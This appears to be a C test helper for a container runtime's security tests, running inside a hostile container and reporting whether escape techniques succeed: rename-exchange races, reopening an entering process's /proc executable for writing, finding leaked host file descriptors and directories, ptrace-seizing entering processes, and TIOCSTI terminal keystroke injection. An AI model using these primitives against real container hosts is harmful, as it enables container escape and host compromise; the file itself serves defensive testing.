/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a hostile container does, as fast as it can be done: the tests named
 * test_attacks_*.py run it inside one. `swap`, `hunt` and `watch` work until
 * their standard input ends and then print what they did, so that a test can
 * show that the attack took place.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

/* Whether the input has ended; a byte of it asks how much was DONE. */
static int is_over(unsigned long done)
{
	struct pollfd input = { .fd = 0, .events = POLLIN };
	char byte;

	if (poll(&input, 1, 0) <= 0)
		return 0;
	if (read(0, &byte, 1) <= 0)
		return 1;
	printf("%lu\n", done);
	return 0;
}

/* Exchange two names until the input ends. */
static int swap(const char *one, const char *other)
{
	unsigned long done = 0;

	for (;;) {
		if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other,
			    RENAME_EXCHANGE) < 0) {
			perror(one);
			return 1;
		}
		if (++done == 1000)
			puts("swapping");
		if (done % 64 == 0 && is_over(done))
			break;
	}
	printf("%lu\n", done);
	return 0;
}

struct catch
{
	unsigned long visitors, files, written, traced;
};

/* Open for writing what the process runs, by a descriptor that outlives it. */
static void take_program(const char *pid, struct catch *caught)
{
	char path[600], again[64];

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	struct stat mine, theirs;
	if (stat("/proc/self/exe", &mine) == 0 && fstat(fd, &theirs) == 0 &&
	    (mine.st_ino != theirs.st_ino || mine.st_dev != theirs.st_dev)) {
		snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
		/* busy while it runs: until it has executed something else */
		for (int turn = 0; turn < 200; turn++) {
			int open_again = open(again, O_WRONLY | O_CLOEXEC);
			if (open_again >= 0) {
				char name[300] = "";
				if (readlink(path, name, sizeof(name) - 1) < 0)
					strcpy(name, "gone");
				/* the image's own files are not the prize */
				if (!strstr(name, "/bin/busybox")) {
					caught->written++;
					printf("opened %s\n", name);
				}
				close(open_again);
				break;
			}
		}
	}
	close(fd);
}

/* Print the files that the process holds which a container has no name for. */
static void list_files(const char *pid, struct catch *caught)
{
	char path[600], target[512];

	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	DIR *folder = opendir(path);
	if (!folder)
		return;
	for (struct dirent *entry; (entry = readdir(folder));) {
		ssize_t n = readlinkat(dirfd(folder), entry->d_name, target,
				       sizeof(target) - 1);
		if (n <= 0)
			continue;
		target[n] = '\0';
		caught->files++;
		if (target[0] != '/' || !strncmp(target, "/dev/", 5) ||
		    !strncmp(target, "/proc/", 6))
			continue;
		printf("file %s\n", target);
		/* where a folder of the host's is, all of the host is */
		snprintf(path, sizeof(path), "/proc/%s/fd/%s/..", pid,
			 entry->d_name);
		if (access(path, F_OK) == 0)
			printf("folder %s\n", target);
	}
	closedir(folder);
}

/* Stop the process and look at what it is. */
static void trace(const char *pid, struct catch *caught)
{
	pid_t number = (pid_t)atoi(pid);
	char path[600], name[300];

	if (ptrace(PTRACE_SEIZE, number, 0, 0) < 0)
		return;
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	ssize_t n = readlink(path, name, sizeof(name) - 1);
	name[n > 0 ? n : 0] = '\0';
	(void)ptrace(PTRACE_INTERRUPT, number, 0, 0);
	(void)waitpid(number, NULL, __WALL); /* stopped, or ended */
	if (n > 0 && !strstr(name, "/bin/busybox")) {
		caught->traced++;
		printf("traced %s\n", name);
	}
	(void)ptrace(PTRACE_DETACH, number, 0, 0);
}

static int is_known(const char *pid, const char *self)
{
	return pid[0] < '0' || pid[0] > '9' || !strcmp(pid, "1") ||
	       !strcmp(pid, self);
}

/* Do to each process that appears what WAY says, until the input ends. */
static int hunt(const char *way)
{
	struct catch caught = { 0 };
	char self[32], last[32] = "";

	snprintf(self, sizeof(self), "%d", getpid());
	puts("hunting");
	while (!is_over(caught.visitors)) {
		DIR *folder = opendir("/proc");
		if (!folder)
			return 1;
		for (struct dirent *entry; (entry = readdir(folder));) {
			if (is_known(entry->d_name, self))
				continue;
			if (strcmp(last, entry->d_name)) {
				caught.visitors++;
				snprintf(last, sizeof(last), "%.20s",
					 entry->d_name);
			}
			if (!strcmp(way, "program"))
				take_program(entry->d_name, &caught);
			else if (!strcmp(way, "files"))
				list_files(entry->d_name, &caught);
			else
				trace(entry->d_name, &caught);
		}
		closedir(folder);
	}
	printf("visitors=%lu files=%lu written=%lu traced=%lu\n",
	       caught.visitors, caught.files, caught.written, caught.traced);
	return 0;
}

/* Whether the container can get there by a name of its own. */
static int has_name(const char *target, const struct stat *there)
{
	struct stat named;

	return target[0] == '/' && stat(target, &named) == 0 &&
	       named.st_ino == there->st_ino && named.st_dev == there->st_dev;
}

/* A control group's folder that cannot be written or left upwards. */
static int is_closed_group(int folder, const struct stat *there)
{
	struct statfs kind;
	struct stat above;

	return fstatfs(folder, &kind) == 0 && kind.f_type == 0x63677270 &&
	       (kind.f_flags & 1 /* read-only */) &&
	       fstatat(folder, "..", &above, 0) == 0 &&
	       above.st_ino == there->st_ino && above.st_dev == there->st_dev;
}

/* Print it if LINK of a process leads where the container cannot go. */
static int follow(int process, const char *link)
{
	char target[512];
	struct stat there;
	ssize_t n = readlinkat(process, link, target, sizeof(target) - 1);

	if (n <= 0)
		return 0;
	target[n] = '\0';
	if (target[0] != '/')
		return 1; /* a socket or a pipe leads nowhere */
	int opened = openat(process, link, O_PATH | O_CLOEXEC);
	if (opened < 0)
		return 1; /* closed by now, or another's */
	if (fstat(opened, &there) == 0 && !S_ISCHR(there.st_mode) &&
	    !has_name(target, &there) && !is_closed_group(opened, &there))
		printf("%s leads to %s\n", link, target);
	close(opened);
	return 1;
}

/* Everything of PROCESS that leads somewhere. */
static int follow_all(int process)
{
	int links = follow(process, "root") + follow(process, "cwd");
	int folder = openat(process, "fd", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	DIR *descriptors = folder >= 0 ? fdopendir(folder) : NULL;
	char link[300];

	for (struct dirent *entry;
	     descriptors && (entry = readdir(descriptors));) {
		snprintf(link, sizeof(link), "fd/%s", entry->d_name);
		links += entry->d_name[0] != '.' && follow(process, link);
	}
	if (descriptors)
		closedir(descriptors);
	return links;
}

/*
 * Wait for the process that is next to be born, look at it again and again
 * until it executes something of the image's, and go on to the next, until the
 * input ends. Needs CAP_SYS_PTRACE.
 */
static int watch(void)
{
	unsigned long visitors = 0, early = 0, links = 0;
	char path[64], name[300];
	int next = getpid() + 1;

	puts("hunting");
	for (unsigned turn = 0; turn % 256 || !is_over(visitors); turn++) {
		/* one may have come and gone in between */
		int candidate = next + (turn % 8 ? 0 : (int)(turn / 8 % 16));
		snprintf(path, sizeof(path), "/proc/%d", candidate);
		int process = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		if (process < 0)
			continue;
		int is_early = 0;
		for (;;) {
			ssize_t n = readlinkat(process, "exe", name,
					       sizeof(name) - 1);
			name[n > 0 ? n : 0] = '\0';
			if (n <= 0 || !strncmp(name, "/bin/busybox", 12))
				break;
			is_early = 1;
			links += (unsigned long)follow_all(process);
		}
		visitors++;
		early += (unsigned long)is_early;
		close(process);
		next = candidate + 1;
	}
	printf("visitors=%lu early=%lu links=%lu\n", visitors, early, links);
	return 0;
}

/* Type into whatever terminal can be had. */
static int type(const char *text)
{
	const char *ways[] = { "/dev/tty", "/dev/console", "/proc/self/fd/0",
			       "/proc/self/fd/1", "/proc/self/fd/2" };

	for (int fd = 0; fd < 3; fd++)
		for (const char *c = text; *c; c++)
			if (ioctl(fd, TIOCSTI, c) == 0 && !c[1])
				printf("typed into %d\n", fd);
	for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
		int fd = open(ways[i], O_RDWR | O_NOCTTY);
		if (fd < 0)
			continue;
		(void)ioctl(fd, TIOCSCTTY, 1);
		for (const char *c = text; *c; c++)
			if (ioctl(fd, TIOCSTI, c) == 0 && !c[1])
				printf("typed into %s\n", ways[i]);
		close(fd);
	}
	puts("tried");
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 4 && !strcmp(argv[1], "swap"))
		return swap(argv[2], argv[3]);
	if (argc == 3 && !strcmp(argv[1], "hunt"))
		return hunt(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "watch"))
		return watch();
	if (argc == 3 && !strcmp(argv[1], "type"))
		return type(argv[2]);
	fprintf(stderr,
		"usage: attacker swap A B | hunt WAY | watch | type TEXT\n");
	return 2;
}
